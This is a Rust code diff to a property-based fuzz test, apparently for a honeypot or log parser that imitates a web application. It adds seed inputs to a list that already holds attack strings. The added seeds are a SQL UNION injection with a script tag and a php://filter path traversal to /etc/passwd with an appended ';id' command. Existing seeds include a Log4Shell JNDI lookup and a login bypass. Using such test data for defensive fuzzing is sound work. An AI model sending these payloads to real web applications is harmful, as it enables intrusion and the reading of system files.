@@ -20,6 +20,10 @@ fn seeds() -> Vec<Vec<u8>> {
         kexinit(),
         // HTTP: method, path, query, body, User-Agent, headers.
         b"GET\0/index.php\0id=1%27%20UNION%20SELECT%201,2--&x=%252e%252e%252f\0\0sqlmap/1.7\0Host: a\nX-Api-Version: ${jndi:ldap://x/${lower:a}}".to_vec(),
+        // The webapp persona: script 0 (/index.php) with a UNION probe; 6 (/page.php)
+        // with a filter include.
+        b"\0id=-1+UNION+SELECT+1,'<script>',3,4,5,6--+-&page=x".to_vec(),
+        b"\x06file=php://filter/convert.base64-encode/resource=../../../../etc/passwd\0ip=1;id".to_vec(),
         b"POST\0/wp-login.php\0\0log=admin&pwd=%26%2339%3B+or+1%3D1&#x3c;script&#x3e;\0Mozilla\0Content-Type: application/x-www-form-urlencoded".to_vec(),
         // Terminal output: colours, a title (OSC), a report request, a cut sequence.
         b"\x1b[1;31mred\x1b[0m \x1b]0;title\x07 \x1b[6n \x1b[?1000h \x1b(0q\x1b(B \x1b[12".to_vec(),
@@ -120,7 +124,7 @@ proptest! {
     }
 
     #[test]
-    fn mutated_seeds(seed in 0..14usize, flips in proptest::collection::vec((any::<usize>(), any::<u8>()), 0..16)) {
+    fn mutated_seeds(seed in 0..16usize, flips in proptest::collection::vec((any::<usize>(), any::<u8>()), 0..16)) {
         let mut data = seeds().swap_remove(seed % seeds().len());
         for (at, byte) in flips {
             if !data.is_empty() {
